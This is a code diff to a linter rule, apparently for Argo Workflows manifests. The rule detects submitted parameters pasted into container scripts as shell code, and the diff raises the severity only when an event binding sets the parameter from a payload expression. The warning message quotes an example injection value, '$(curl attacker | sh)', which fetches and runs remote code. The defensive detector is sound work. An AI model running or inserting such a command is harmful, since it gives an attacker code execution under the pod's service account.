@@ -13,7 +13,7 @@ from collections.abc import Iterator
 
 from argolint.analysis.expr import tags_in
 from argolint.analysis.pods import Container, pods_of
-from argolint.analysis.submitted import submitted_parameters
+from argolint.analysis.submitted import compute, submitted_parameters
 from argolint.context import Context
 from argolint.finding import Finding, Related, Severity
 from argolint.rules import rule
@@ -82,6 +82,9 @@ def code_strings(container: Container) -> Iterator[tuple[YScalar, str]]:
 def check(ctx: Context) -> Iterator[Finding]:
     submitted = ctx.analysis(submitted_parameters)
     events = _event_bindings(ctx)
+    # What the events' payloads reach: parameters they set from an expression, not a constant.
+    event_set = {n for doc, _ in events for n in _event_parameters(doc)}
+    from_events = compute(ctx.manifest, event_set) if event_set else None
     trigger = ""
     related: list[Related] = []
     if events:
@@ -106,18 +109,43 @@ def check(ctx: Context) -> Iterator[Finding]:
                     continue
                 name = hit.parts[2]
                 env = re.sub(r"[^A-Za-z0-9]+", "_", name).upper().strip("_") or "VALUE"
+                by_event = from_events is not None and any(
+                    from_events.controls(r, template) for r in tag.refs
+                )
                 yield ctx.finding(
                     tag.span(scalar),
                     f"`{tag.text}` is pasted into {what} of the {container.describe} as code; "
                     f"`{hit.name}` is set by whoever submits the workflow, so a value like "
                     "`$(curl attacker | sh)` or `'; ...` runs with the pod's service account"
-                    + trigger,
+                    + (trigger if by_event else ""),
                     suggestion=f"pass it as data: `env: [{{name: {env}, value: "
                     f'"{tag.text}"}}]` and read `${env}` (quoted) in the script, or pass it '
                     "as a positional argument after the script (`$1`)",
-                    severity=Severity.ERROR if events else None,
-                    related=related,
+                    severity=Severity.ERROR if by_event else None,
+                    related=related if by_event else [],
                 )
+
+
+#: An event expression that is a literal: the event cannot choose the value.
+_CONSTANT = re.compile(r"""\s*(?:"[^"\\]*"|'[^'\\]*'|-?\d+(?:\.\d+)?|true|false|nil)\s*""")
+
+
+def _event_parameters(doc: Document) -> set[str]:
+    """The workflow parameters a WorkflowEventBinding sets from its event (``valueFrom.event``
+    with an expression over the payload, not a literal)."""
+    root = doc.root
+    spec = root.mapping("spec") if isinstance(root, YMapping) else None
+    submit = spec.mapping("submit") if spec else None
+    arguments = submit.mapping("arguments") if submit else None
+    seq = arguments.sequence("parameters") if arguments else None
+    names = set()
+    for param in seq.mappings() if seq else ():
+        value_from = param.mapping("valueFrom")
+        expression = value_from.str("event") if value_from else None
+        name = param.str("name")
+        if name and expression and not _CONSTANT.fullmatch(expression):
+            names.add(name)
+    return names
 
 
 def _event_bindings(ctx: Context) -> list[tuple[Document, YNode]]:
